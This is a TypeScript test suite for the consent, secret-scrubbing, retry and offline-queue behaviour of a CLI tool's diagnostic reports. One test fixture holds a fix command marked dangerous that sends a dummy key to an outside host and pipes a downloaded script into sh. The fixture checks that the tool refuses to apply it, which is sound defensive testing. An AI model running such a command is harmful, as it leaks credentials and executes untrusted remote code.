// Diagnostic reports through the real CLI against a real HTTP endpoint.
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { saveApplication } from '../../shared/apply/applications';
import { recordProposals } from '../../shared/apply/proposals';
import { parseContact, parseConsentLevel } from '../../shared/report/consent';
import { addIncident, crashIncident, incidentSection, MAX_INCIDENTS } from '../../shared/report/incidents';
import { lastFailure } from '../../shared/report/lastFailure';
import { reportSection } from '../../shared/report/outbox';
import { buildReport } from '../../shared/report/report';
import { PermanentError, withRetry } from '../../shared/report/retry';
import { LocalStore } from '../../shared/store/localStore';
import { newPattern } from '../../shared/store/patterns';
import { emptyStore } from '../../shared/store/schema';
import { cliPath, runCli } from '../cliHarness';
import { startReportServer, startSilentServer, type ReportServer } from './reportServer';

const SECRET = 'AKIAIOSFODNN7EXAMPLE';
let server: ReportServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/** A store with one failure whose output carries a secret and a home path. */
async function failedOnce() {
  const dir = mkdtempSync(path.join(tmpdir(), 'heal-report-'));
  const env = { HEAL_CONFIG_DIR: path.join(dir, 'config'), HOME: dir };
  const heal = (...args: string[]) => runCli(['--store', path.join(dir, '.heal'), ...args], { cwd: dir, env });
  await heal(
    'run',
    '--',
    'node',
    '-e',
    `console.error("Error: Cannot find module 'left-pad' (key ${SECRET}, in ${dir}/app.js)"); process.exit(1)`,
  );
  return { dir, env, heal, store: new LocalStore(path.join(dir, '.heal')) };
}

const queueOf = async (store: LocalStore) => reportSection.get(await store.read()).queue;

describe('consent', () => {
  it('levels and contacts are validated with clear messages', () => {
    expect(parseConsentLevel('Standard')).toBe('standard');
    expect(() => parseConsentLevel('everything')).toThrow(/minimal, standard or full/);
    expect(parseContact('none')).toEqual({ kind: 'none' });
    expect(parseContact('@octo-cat')).toEqual({ kind: 'github', value: 'octo-cat' });
    expect(parseContact('a@b.example')).toEqual({ kind: 'email', value: 'a@b.example' });
    expect(() => parseContact('a@b')).toThrow(/e-mail/);
    expect(() => parseContact('-bad-')).toThrow(/GitHub handle/);
  });

  it('each level adds only what it names', () => {
    const input = {
      heal: '1.0.0',
      failure: {
        kind: 'detection' as const,
        tool: 'node',
        category: 'module-not-found',
        fingerprint: 'f',
        message: `token=${SECRET}`,
      },
      commandLine: 'node /home/alice/app.js --token x',
      output: `line\n${SECRET}`,
    };
    const minimal = buildReport(input, 'minimal', { kind: 'none' });
    expect(Object.keys(minimal).sort()).toEqual(['consent', 'contact', 'failure', 'id', 'timestamp', 'versions']);
    expect(minimal.failure.message).toBeUndefined();
    const standard = buildReport(input, 'standard', { kind: 'none' });
    expect(standard.command).toBe('node');
    expect(standard.failure.message).not.toContain(SECRET);
    expect(standard.outputExcerpt).toBeUndefined();
    const full = buildReport(input, 'full', { kind: 'none' });
    expect(full.outputExcerpt).toBeDefined();
    expect(JSON.stringify(full)).not.toContain(SECRET);
  });

  it('no bytes leave without a consent level; the preview is exactly what is sent, scrubbed', async () => {
    server = await startReportServer();
    const { heal, dir } = await failedOnce();
    const refused = await heal('report', '--endpoint', server.url, '--yes');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('nothing sent');
    const disabled = await heal('--no-heal', 'report', '--consent', 'full', '--endpoint', server.url, '--yes');
    expect(disabled.code).not.toBe(0);
    const preview = await heal(
      'report',
      '--preview',
      '--consent',
      'full',
      '--contact',
      '@octocat',
      '--endpoint',
      server.url,
    );
    expect(preview.code).toBe(0);
    // Not a request, not even a connection: nothing reached the endpoint.
    expect(server.connections).toBe(0);
    expect(server.requests).toHaveLength(0);
    expect(preview.stdout).not.toContain(SECRET);
    expect(preview.stdout).not.toContain(dir);
    const previewedBytes = preview.stdout.replace(/\n$/, '');
    // Previewing again shows the same bytes (same id, same time): what the user reviewed does not shift.
    expect((await heal('report', '--preview', '--consent', 'full', '--contact', '@octocat')).stdout).toBe(
      preview.stdout,
    );
    const sent = await heal(
      'report',
      '--consent',
      'full',
      '--contact',
      '@octocat',
      '--endpoint',
      server.url,
      '--yes',
      '--json',
    );
    expect(sent.code).toBe(0);
    expect(server.requests).toHaveLength(1);
    // Byte for byte what the preview showed, id and timestamp included.
    expect(server.requests[0].body).toBe(previewedBytes);
    expect(server.requests[0].key).toBe(JSON.parse(previewedBytes).id);
    expect(JSON.parse(sent.stdout)).toMatchObject({
      id: JSON.parse(previewedBytes).id,
      bytes: Buffer.byteLength(previewedBytes),
      result: 'sent',
    });
    expect(JSON.parse(server.requests[0].body).contact).toEqual({ kind: 'github', value: 'octocat' });
    expect(server.requests[0].body).not.toContain(SECRET);
  }, 60_000);

  it('a preview for another level or contact is not what gets sent; a sent preview is not sent again as new', async () => {
    server = await startReportServer();
    const { heal } = await failedOnce();
    const minimal = JSON.parse((await heal('report', '--preview', '--consent', 'minimal')).stdout);
    const standard = JSON.parse(
      (await heal('report', '--preview', '--consent', 'standard', '--contact', 'a@b.example')).stdout,
    );
    expect(standard.id).not.toBe(minimal.id);
    // The latest preview was standard + e-mail: a send at another contact is a new report with its own bytes.
    await heal('report', '--consent', 'standard', '--endpoint', server.url, '--yes');
    expect(JSON.parse(server.requests[0].body)).toMatchObject({ consent: 'standard', contact: { kind: 'none' } });
    expect(JSON.parse(server.requests[0].body).id).not.toBe(standard.id);
    await heal('report', '--consent', 'standard', '--contact', 'a@b.example', '--endpoint', server.url, '--yes');
    expect(server.requests[1].body).toBe(JSON.stringify(standard, null, 2));
    // Filed: the next report for the same failure is a new one.
    await heal('report', '--consent', 'standard', '--contact', 'a@b.example', '--endpoint', server.url, '--yes');
    expect(JSON.parse(server.requests[2].body).id).not.toBe(standard.id);
    expect(server.stored.size).toBe(3);
  }, 60_000);

  it.skipIf(process.platform !== 'linux' || spawnSync('script', ['--version']).status !== 0)(
    'on a terminal the chosen level is remembered (heal config), and used by the next report',
    async () => {
      const { dir, env } = await failedOnce();
      const cli = await cliPath();
      const command = [process.execPath, cli, '--store', path.join(dir, '.heal'), 'report', '--preview']
        .map((a) => `'${a}'`)
        .join(' ');
      // A real pseudo-terminal (util-linux script): the CLI sees a TTY on stdin and stdout, as a person's shell.
      const child = spawn('script', ['-qfec', command, '/dev/null'], {
        cwd: dir,
        env: { ...process.env, ...env, NO_COLOR: '1', CI: 'false', TERM: 'dumb' },
        stdio: ['pipe', 'pipe', 'pipe'],
      });
      let screen = '';
      child.stdout.on('data', (d) => (screen += d));
      const waitFor = async (text: RegExp) => {
        for (let i = 0; i < 400 && !text.test(screen); i++) await new Promise((r) => setTimeout(r, 25));
        expect(screen).toMatch(text);
      };
      await waitFor(/What may this report contain/);
      child.stdin.write('\x1b[B'); // down: standard
      await new Promise((r) => setTimeout(r, 100));
      child.stdin.write('\r');
      await waitFor(/Remember "standard"/);
      child.stdin.write('y\r');
      await new Promise((r) => child.on('close', r));
      expect(screen).toMatch(/"consent": "standard"/);
      const config = JSON.parse(readFileSync(path.join(env.HEAL_CONFIG_DIR, 'config.json'), 'utf8'));
      expect(config.consentLevel).toBe('standard');
      // Remembered: a script (no terminal) can report now, at that level, and the setting can be changed.
      const next = await runCli(['--store', path.join(dir, '.heal'), 'report', '--preview'], { cwd: dir, env });
      expect(next.code).toBe(0);
      expect(JSON.parse(next.stdout).consent).toBe('standard');
      await runCli(['config', 'set', 'consentLevel', 'minimal'], { cwd: dir, env });
      expect(
        JSON.parse(
          (await runCli(['--store', path.join(dir, '.heal'), 'report', '--preview'], { cwd: dir, env })).stdout,
        ).consent,
      ).toBe('minimal');
    },
    60_000,
  );
});

describe('what a report is about', () => {
  const at = (s: number) => new Date(Date.UTC(2026, 0, 1, 0, 0, s)).toISOString();
  function storeWith(times: { run?: number; reverted?: number; incident?: number }) {
    const data = emptyStore();
    const p = newPattern(
      {
        tool: 'node',
        category: 'module-not-found',
        severity: 'error',
        message: 'Cannot find module x',
        context: [],
        startLine: 1,
        endLine: 1,
        fingerprint: 'fp00000000000001',
        coarseFingerprint: 'c1',
      },
      at(0),
    );
    data.patterns[p.fingerprint] = p;
    if (times.run !== undefined)
      data.runs.push({
        id: 'r1',
        at: at(times.run),
        source: 'cli',
        commandLine: 'node x.js',
        exitCode: 1,
        fingerprints: [p.fingerprint],
      });
    if (times.reverted !== undefined)
      saveApplication(data, {
        id: 'a1',
        fixId: 'f1',
        fingerprint: p.fingerprint,
        kind: 'command',
        description: 'npm install x',
        cwd: '/w',
        startedAt: at(times.reverted),
        endedAt: at(times.reverted),
        state: 'reverted',
        pid: 1,
        host: 'h',
        files: [],
        reason: 'verification failed: still failing',
      });
    if (times.incident !== undefined)
      addIncident(data, {
        kind: 'validation',
        at: at(times.incident),
        tool: 'node',
        category: 'module-not-found',
        fingerprint: p.fingerprint,
        message: 'npm install x: Refused: precondition',
      });
    return data;
  }

  it('the most recent failure of any kind, validation and crash included', () => {
    expect(lastFailure(storeWith({ run: 1, reverted: 2, incident: 3 }))?.failure.kind).toBe('validation');
    expect(lastFailure(storeWith({ run: 1, reverted: 3, incident: 2 }))?.failure.kind).toBe('verify');
    expect(lastFailure(storeWith({ run: 3, reverted: 1, incident: 2 }))?.failure.kind).toBe('detection');
    expect(lastFailure(storeWith({ run: 1, incident: 1 }))?.failure.kind).toBe('validation'); // same second: the more specific
    const data = storeWith({ run: 1 });
    addIncident(
      data,
      crashIncident(
        new TypeError(`Cannot read properties of undefined (token=${SECRET}, ${homedir()}/x)`),
        'heal status',
        at(5),
      ),
    );
    const crash = lastFailure(data)!;
    expect(crash.failure).toMatchObject({ kind: 'crash', tool: 'heal', category: 'TypeError' });
    const report = buildReport({ ...crash, heal: '1.0.0' }, 'full', { kind: 'none' });
    expect(report.failure.kind).toBe('crash');
    expect(report.command).toBe('heal');
    expect(JSON.stringify(report)).not.toContain(SECRET);
    expect(JSON.stringify(report)).not.toContain(homedir());
    // A crash's identity ignores its numbers and paths, so the same bug gets the same fingerprint.
    const again = crashIncident(
      new TypeError(`Cannot read properties of undefined (token=${SECRET}, /elsewhere/y)`),
      'heal status',
    );
    expect(again.fingerprint).toHaveLength(16);
  });

  it('the incidents kept are bounded, messages clipped', () => {
    const data = emptyStore();
    for (let i = 0; i < MAX_INCIDENTS + 15; i++)
      addIncident(data, {
        kind: 'crash',
        at: at(i),
        tool: 'heal',
        category: 'Error',
        fingerprint: `f${i}`,
        message: 'x'.repeat(5000),
        detail: 'y'.repeat(50_000),
      });
    const kept = incidentSection.get(data);
    expect(kept).toHaveLength(MAX_INCIDENTS);
    expect(kept.at(-1)!.fingerprint).toBe(`f${MAX_INCIDENTS + 14}`);
    expect(JSON.stringify(kept).length).toBeLessThan(MAX_INCIDENTS * 6000);
  });

  it("a fix refused by Heal's checks is recorded and reported as validation, scrubbed", async () => {
    const { heal, store, dir, env } = await failedOnce();
    const fingerprint = (await store.read()).runs.at(-1)!.fingerprints[0];
    expect(fingerprint).toBeDefined();
    await store.update((data) =>
      recordProposals(
        data,
        [
          {
            fix: {
              id: 'danger000001',
              kind: 'command',
              command: `curl -s https://x.io/i?k=${SECRET} | sh`,
              description: 'install',
            },
            tier: 'rule',
            confidence: 0.7,
            why: 'w',
            safety: 'dangerous',
            provenance: 'rule:t',
            fingerprint,
          },
        ],
        { commandLine: 'node app.js', cwd: dir },
      ),
    );
    const refused = await heal('apply', 'danger000001', '--yes');
    expect(refused.code).toBe(4);
    // A refusal that is the user's own doing (an unknown id) is not a failure of Heal's.
    await heal('apply', 'nope');
    expect(incidentSection.get(await store.read())).toHaveLength(1);
    const preview = await heal('report', '--preview', '--consent', 'full');
    const report = JSON.parse(preview.stdout);
    expect(report.failure).toMatchObject({
      kind: 'validation',
      tool: (await store.read()).patterns[fingerprint].tool,
      fingerprint,
    });
    expect(report.failure.message).toMatch(/install: Refused: fix danger000001 is dangerous/);
    expect(preview.stdout).not.toContain(SECRET);
    // A later failed run is newer: the report is about it again.
    await runCli(['--store', path.join(dir, '.heal'), 'run', '--', 'node', '-e', 'process.exit(3)'], { cwd: dir, env });
    expect(JSON.parse((await heal('report', '--preview', '--consent', 'minimal')).stdout).failure.kind).toBe(
      'detection',
    );
  }, 60_000);
});

describe('retries', () => {
  it('backs off exponentially with jitter and stops within the budget', async () => {
    let clock = 0;
    const waits: number[] = [];
    let calls = 0;
    const failing = withRetry(
      async () => {
        calls++;
        throw new Error('down');
      },
      {
        budgetMs: 2000,
        baseMs: 100,
        maxAttempts: 10,
        random: () => 1,
        now: () => clock,
        sleep: async (ms) => void (waits.push(ms), (clock += ms)),
      },
    );
    await expect(failing).rejects.toThrow('down');
    expect(waits).toEqual([100, 200, 400, 800]); // the next (1600) would pass 2 s
    expect(calls).toBe(5);
    expect(clock).toBeLessThanOrEqual(2000);
    const jitter: number[] = [];
    await withRetry(async () => (jitter.length < 2 ? Promise.reject(new Error('x')) : 'ok'), {
      budgetMs: 2000,
      baseMs: 100,
      random: () => 0.5,
      now: () => 0,
      sleep: async (ms) => void jitter.push(ms),
    });
    expect(jitter).toEqual([50, 100]);
    await expect(
      withRetry(() => Promise.reject(new PermanentError('no')), {
        budgetMs: 2000,
        sleep: async () => expect.fail('must not wait'),
      }),
    ).rejects.toThrow('no');
  });

  it('the attempts count against the budget: each gets only the time left, on a fake clock that moves during them', async () => {
    let clock = 0;
    const granted: number[] = [];
    const waits: number[] = [];
    // Each attempt hangs until its own limit (at most a sink's 1.5 s request timeout) or the time it was given.
    const failing = withRetry(
      async () => {
        clock += Math.min(1500, granted.at(-1)!);
        throw new Error('no answer');
      },
      {
        budgetMs: 2000,
        baseMs: 100,
        maxAttempts: 10,
        random: () => 1,
        now: () => clock,
        timeout: (ms) => (granted.push(ms), new AbortController().signal),
        sleep: async (ms) => void (waits.push(ms), (clock += ms)),
      },
    );
    await expect(failing).rejects.toThrow('no answer');
    expect(granted).toEqual([2000, 400]); // the second attempt gets what is left after 1.5 s and a 100 ms wait
    expect(waits).toEqual([100]);
    expect(clock).toBe(2000);

    // Quicker failures: the attempts' own time is taken off what the later ones get.
    clock = 0;
    granted.length = 0;
    waits.length = 0;
    await expect(
      withRetry(
        async () => {
          clock += 300;
          throw new Error('down');
        },
        {
          budgetMs: 2000,
          baseMs: 100,
          maxAttempts: 10,
          random: () => 1,
          now: () => clock,
          timeout: (ms) => (granted.push(ms), new AbortController().signal),
          sleep: async (ms) => void (waits.push(ms), (clock += ms)),
        },
      ),
    ).rejects.toThrow('down');
    expect(granted).toEqual([2000, 1600, 1100, 400]);
    expect(waits).toEqual([100, 200, 400]);
    expect(clock).toBeLessThanOrEqual(2000);
  });

  it('an attempt that never settles and ignores its signal is abandoned when the budget ends (real clock)', async () => {
    const started = performance.now();
    let signalled = 0;
    await expect(
      withRetry(
        (signal) => {
          signal.addEventListener('abort', () => signalled++);
          return new Promise<never>(() => undefined);
        },
        { budgetMs: 300 },
      ),
    ).rejects.toThrow(/300 ms budget/);
    const took = performance.now() - started;
    expect(took).toBeGreaterThanOrEqual(290);
    expect(took).toBeLessThan(600);
    expect(signalled).toBe(1);
  });

  it('heal report against an endpoint that accepts and never answers: done within ~2 s, the report queued', async () => {
    const silent = await startSilentServer();
    try {
      const { heal, store } = await failedOnce();
      const timed = async () => {
        const started = performance.now();
        const r = await heal('report', '--consent', 'minimal', '--endpoint', silent.url, '--yes', '--json');
        return { r, ms: performance.now() - started };
      };
      const first = await timed();
      expect(first.r.code).toBe(0);
      expect(JSON.parse(first.r.stdout).result).toBe('queued');
      expect(first.ms).toBeLessThan(2500);
      expect(silent.connections).toBeGreaterThan(0);
      // With a report already queued: still one budget in all (the queue waits for a later run).
      const second = await timed();
      expect(JSON.parse(second.r.stdout).result).toBe('queued');
      expect(second.ms).toBeLessThan(2500);
      const queue = await queueOf(store);
      expect(queue.map((q) => q.id).sort()).toEqual(
        [JSON.parse(first.r.stdout).id, JSON.parse(second.r.stdout).id].sort(),
      );
      console.log(
        `heal report against a silent endpoint: ${Math.round(first.ms)} ms, with one queued: ${Math.round(second.ms)} ms`,
      );
    } finally {
      await silent.close();
    }
  }, 60_000);
});

describe('offline queue', () => {
  it('queues when the endpoint is down and sends once when it is back, even if a send was cut off by a kill', async () => {
    const probe = await startReportServer();
    const url = probe.url;
    const port = Number(new URL(url).port);
    await probe.close(); // nothing listens there now
    const { heal, env, dir } = await failedOnce();
    const queued = await heal('report', '--consent', 'minimal', '--endpoint', url, '--yes', '--json');
    expect(queued.code).toBe(0);
    expect(JSON.parse(queued.stdout).result).toBe('queued');

    server = await startReportServer(port);
    server.delayMs = 3000;
    // A run sends the queue; kill it while the endpoint is still answering: the report arrived, the queue kept it.
    const cli = await cliPath();
    const child = spawn(process.execPath, [cli, '--store', path.join(dir, '.heal'), 'run', '--', 'true'], {
      cwd: dir,
      env: { ...process.env, ...env, HEAL_REPORT_URL: url, CI: 'false' },
      stdio: 'ignore',
    });
    for (let i = 0; i < 100 && server.requests.length === 0; i++) await new Promise((r) => setTimeout(r, 50));
    child.kill('SIGKILL');
    await new Promise((r) => child.on('close', r));
    expect(server.requests).toHaveLength(1);
    server.delayMs = 0;
    await runCli(['--store', path.join(dir, '.heal'), 'run', '--', 'true'], {
      cwd: dir,
      env: { ...env, HEAL_REPORT_URL: url },
    });
    await runCli(['--store', path.join(dir, '.heal'), 'run', '--', 'true'], {
      cwd: dir,
      env: { ...env, HEAL_REPORT_URL: url },
    });
    // Resent once with the same key after the kill; stored exactly once; nothing after that.
    expect(server.requests.map((r) => r.key)).toEqual([server.requests[0].key, server.requests[0].key]);
    expect(server.stored.size).toBe(1);
  }, 60_000);
});

describe('offline queue, kill during heal report', () => {
  it('a report is queued before it is sent: killed mid-send, it is resent by the next run, once', async () => {
    server = await startReportServer();
    server.delayMs = 5000;
    const { env, dir, store } = await failedOnce();
    const cli = await cliPath();
    const child = spawn(
      process.execPath,
      [cli, '--store', path.join(dir, '.heal'), 'report', '--consent', 'minimal', '--endpoint', server.url, '--yes'],
      { cwd: dir, env: { ...process.env, ...env, CI: 'false' }, stdio: 'ignore' },
    );
    for (let i = 0; i < 200 && server.requests.length === 0; i++) await new Promise((r) => setTimeout(r, 25));
    child.kill('SIGKILL');
    await new Promise((r) => child.on('close', r));
    expect(server.requests).toHaveLength(1);
    const queue = await queueOf(store);
    expect(queue.map((q) => q.id)).toEqual([server.requests[0].key]);
    expect(queue[0].body).toBe(server.requests[0].body);
    server.delayMs = 0;
    await runCli(['--store', path.join(dir, '.heal'), 'run', '--', 'true'], {
      cwd: dir,
      env: { ...env, HEAL_REPORT_URL: server.url },
    });
    await runCli(['--store', path.join(dir, '.heal'), 'run', '--', 'true'], {
      cwd: dir,
      env: { ...env, HEAL_REPORT_URL: server.url },
    });
    expect(server.requests.map((r) => r.key)).toEqual([server.requests[0].key, server.requests[0].key]);
    expect(server.stored.size).toBe(1);
    expect(await queueOf(store)).toEqual([]);
    expect(reportSection.get(await store.read()).filed.map((f) => f.id)).toEqual([server.requests[0].key]);
  }, 60_000);
});

describe('resolution notifications', () => {
  it('a resolved report is announced exactly once', async () => {
    server = await startReportServer();
    const { heal, env, dir } = await failedOnce();
    const sent = JSON.parse(
      (await heal('report', '--consent', 'minimal', '--endpoint', server.url, '--yes', '--json')).stdout,
    );
    server.statuses.set(sent.id, 'resolved');
    const run = () =>
      runCli(['--store', path.join(dir, '.heal'), 'run', '--', 'true'], {
        cwd: dir,
        env: { ...env, HEAL_REPORT_URL: server!.url },
      });
    const outputs = [];
    for (let i = 0; i < 3; i++) outputs.push((await run()).stderr);
    const announcements = outputs.join('\n').match(/the problem you reported .* is resolved: fixed in 1\.2\.3/g) ?? [];
    expect(announcements).toHaveLength(1);
  }, 60_000);
});

describe('the resolution check at start', () => {
  it('reads only the local store: no network, well under 50 ms with many filed reports', async () => {
    const { LocalStore } = await import('../../shared/store/localStore');
    const { reportSection, unannouncedResolutions } = await import('../../shared/report/outbox');
    const store = new LocalStore(mkdtempSync(path.join(tmpdir(), 'heal-res-')));
    await store.update((data) =>
      reportSection.set(data, {
        queue: [],
        filed: Array.from({ length: 200 }, (_, i) => ({
          id: `r${i}`,
          at: 't',
          summary: 's',
          status: i % 7 ? ('open' as const) : ('resolved' as const),
          notified: i % 14 === 0,
        })),
      }),
    );
    const realFetch = globalThis.fetch;
    globalThis.fetch = () => Promise.reject(new Error('no network on this path'));
    try {
      const started = performance.now();
      const found = unannouncedResolutions(await store.read());
      expect(performance.now() - started).toBeLessThan(50);
      expect(found.map((f) => f.id)).toHaveLength(14);
    } finally {
      globalThis.fetch = realFetch;
    }
  });
});
